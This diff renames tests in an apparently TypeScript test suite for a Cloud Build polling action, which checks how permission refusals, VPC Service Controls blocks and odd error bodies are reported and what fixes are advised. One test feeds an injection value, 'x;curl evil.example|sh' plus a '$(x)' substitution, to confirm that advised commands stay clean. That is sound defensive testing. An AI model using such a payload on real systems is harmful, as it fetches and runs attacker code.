@@ -158,7 +158,7 @@ describe("what no answer means", () => {
       assert.equal(mendOf(lost), mend);
     });
   }
-  test("a limit of ours is told as it is, without advice", () => {
+  test("a limit of the action's own is told as it is, without advice", () => {
     for (const why of ["Cloud Build gave no answer within 30s", "Cloud Build sent a body of more than 16 MiB"]) {
       assert.deepEqual(poll({ kind: "lost", code: "TIMEOUT", why }), {
         kind: "passing",
@@ -227,7 +227,7 @@ describe("what is said of a refusal", () => {
   const denied = (...details: unknown[]) =>
     google(403, "PERMISSION_DENIED", "The caller does not have permission", ...details);
 
-  test("the permission that is missing, on what, and for whom", () => {
+  test("a refusal names the permission that is missing, on what, and for whom", () => {
     const one = poll(denied(permission("cloudbuild.builds.get", "projects/pp")), target(), "ci@pp.example");
     assert.equal(
       whyOf(one),
@@ -243,7 +243,7 @@ describe("what is said of a refusal", () => {
 
   const others: readonly (readonly [what: string, result: Answer, mend: RegExp])[] = [
     [
-      "of another service, with its resource",
+      "of another service on a named resource",
       denied(permission("run.operations.get", "projects/pp/x")),
       /^Grant a role that holds run\.operations\.get on projects\/pp\/x, /,
     ],
@@ -253,7 +253,7 @@ describe("what is said of a refusal", () => {
       /^Grant a role that holds container\.operations\.get on the resource, /,
     ],
     [
-      "of Cloud Build, for something else than builds",
+      "of Cloud Build for something else than builds",
       denied(permission("cloudbuild.workerpools.get")),
       /^Grant a role that holds cloudbuild\.workerpools\.get /,
     ],
@@ -268,13 +268,13 @@ describe("what is said of a refusal", () => {
     ],
   ];
   for (const [what, result, mend] of others) {
-    test(`a permission ${what}: no role of Cloud Build's is advised`, () => {
+    test(`where a permission ${what} is missing, no role of Cloud Build's is advised`, () => {
       assert.match(mendOf(poll(result)) ?? "", mend);
       assert.doesNotMatch(mendOf(poll(result)) ?? "", /roles\/cloudbuild/);
     });
   }
 
-  test("a permission that the message names is one for builds too", () => {
+  test("a missing permission for builds is known where only the message names it", () => {
     const message = "Permission 'cloudbuild.builds.get' denied on resource '//cloudbuild.googleapis.com/x'";
     assert.equal(mendOf(poll(google(403, "PERMISSION_DENIED", message))), advice.permission.mend);
   });
@@ -330,7 +330,7 @@ describe("what is said of a refusal", () => {
     });
   }
 
-  test("VPC Service Controls are known without a reason", () => {
+  test("a refusal by VPC Service Controls is known without a reason", () => {
     const violations = [{ type: "VPC_SERVICE_CONTROLS", description: "9a8b7c" }];
     const result = denied({ "@type": "type.googleapis.com/google.rpc.PreconditionFailure", violations });
     assert.equal(mendOf(poll(result)), advice.perimeter.mend);
@@ -338,13 +338,13 @@ describe("what is said of a refusal", () => {
     assert.match(whyOf(poll(result)), /VPC_SERVICE_CONTROLS: 9a8b7c/);
   });
 
-  test("what would be a command has no words of the answer but names", () => {
+  test("a command that is advised has no words of the answer but names of services and projects", () => {
     const bad = { service: "x;curl evil.example|sh", consumer: "projects/$(x)" };
     assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", bad)))), advice.apiDisabled.mend);
     assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", { consumer: "folders/7" })))), advice.apiDisabled.mend);
   });
 
-  test("an error without message, status and details", () => {
+  test("an error without message, status and details is told by its number", () => {
     assert.equal(whyOf(poll(answer(503, '{"error":{"code":503}}'))), "Cloud Build answered 503");
     const odd = '{"error":{"code":503,"message":"m","details":["x",null]}}';
     assert.equal(whyOf(poll(answer(503, odd))), "Cloud Build answered 503: m");
@@ -357,10 +357,10 @@ describe("what is said of a refusal", () => {
     );
     assert.equal(whyOf(poll(answer(429, "slow down"))), "HTTP 429, not from Google: slow down");
   });
-  test("an error in an array, as streaming methods send it", () => {
+  test("an error in an array, as streaming methods send it, is read", () => {
     assert.equal(whyOf(poll(answer(503, '[{"error":{"code":503,"message":"m"}}]'))), "Cloud Build answered 503: m");
   });
-  test("Google's page is told by what it says, without its styles", () => {
+  test("an error page of Google's is told by what it says, without its styles", () => {
     const one = poll(answer(404, googlePage(404, "Not Found")));
     assert.equal(
       whyOf(one),
@@ -377,7 +377,7 @@ describe("what is said of a refusal", () => {
     assert.equal(whyOf(poll(answer(502, "<style>a{}"))), "HTTP 502, not from Google");
     assert.equal(whyOf(poll(answer(502, `${"<".repeat(100_000)}`))).length, 227);
   });
-  test("of JSON that is not Google's only its message is told", () => {
+  test("of an error in JSON that is not Google's only its message is told", () => {
     const start = "HTTP 502, not from Google";
     const said = (body: object) => whyOf(poll(answer(502, JSON.stringify(body))));
     assert.equal(said({ message: "no route", token: "s3cr3t" }), `${start}: no route`);
@@ -402,7 +402,7 @@ describe("nothing is quoted of a broken operation", () => {
     [206, secret],
     [302, secret],
   ] as const) {
-    test(`nothing is quoted of a ${status} with ${text.slice(0, 20)}`, () =>
+    test(`nothing is quoted of a broken operation: a ${status} with ${text.slice(0, 20)}`, () =>
       assert.doesNotMatch(whyOf(poll(answer(status, text))), /print|PASSWORD/));
   }
   test("a page that came instead of an operation is quoted", () => {
